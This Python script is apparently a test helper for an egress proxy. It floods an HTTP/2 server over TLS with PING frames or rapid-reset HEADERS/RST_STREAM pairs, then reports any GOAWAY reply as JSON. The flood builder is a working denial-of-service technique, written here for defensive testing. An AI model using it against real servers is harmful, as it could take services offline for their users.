"""An abusive HTTP/2 client for the egress e2e tests:
``python h2_flood_client.py HOST PORT SNI CAFILE KIND COUNT``.

Over TLS with ALPN h2 (trusting CAFILE), sends the preface, SETTINGS, then COUNT frames of
one flood at once: ``ping`` (PING frames) or ``rapid-reset`` (HEADERS without END_STREAM,
then RST_STREAM CANCEL, stream after stream). Reads until the connection ends and prints
one JSON line: {"event": "done", "goaway": error code or null, "last_stream": id or null}.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys

from hpack import Encoder
from hyperframe.frame import (
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TIMEOUT_S = 30 * float(os.environ.get("FLOWTAP_TEST_TIMEOUT_SCALE", "1"))


def flood(kind: str, count: int, authority: str) -> bytes:
    out = [PREFACE, SettingsFrame(0).serialize()]
    if kind == "ping":
        out += [PingFrame(0, opaque_data=b"floodflo").serialize()] * count
    elif kind == "rapid-reset":
        encoder = Encoder()
        request = [(":method", "POST"), (":path", "/reset"), (":scheme", "https"),
                   (":authority", authority)]  # fmt: skip
        for index in range(count):
            sid = 2 * index + 1
            block = encoder.encode(request)
            out.append(HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize())
            out.append(RstStreamFrame(sid, error_code=0x8).serialize())
    else:
        raise SystemExit(f"unknown flood {kind!r}")
    return b"".join(out)


def main() -> int:
    host, port, sni, cafile, kind, count = sys.argv[1:7]
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(["h2"])
    received = bytearray()
    with (
        socket.create_connection((host, int(port)), timeout=TIMEOUT_S) as raw,
        context.wrap_socket(raw, server_hostname=sni) as sock,
    ):
        assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
        sock.sendall(flood(kind, int(count), sni))
        try:
            while chunk := sock.recv(65536):
                received += chunk
        except (ConnectionResetError, ssl.SSLError):
            pass
    goaway = None
    pos = 0
    while len(received) - pos >= 9:
        frame, length = Frame.parse_frame_header(memoryview(bytes(received[pos : pos + 9])))
        if len(received) < pos + 9 + length:
            break
        frame.parse_body(memoryview(bytes(received[pos + 9 : pos + 9 + length])))
        if isinstance(frame, GoAwayFrame):
            goaway = frame
        pos += 9 + length
    print(json.dumps({
        "event": "done",
        "pid": os.getpid(),
        "goaway": goaway.error_code if goaway else None,
        "last_stream": goaway.last_stream_id if goaway else None,
    }), flush=True)  # fmt: skip
    return 0


if __name__ == "__main__":
    sys.exit(main())
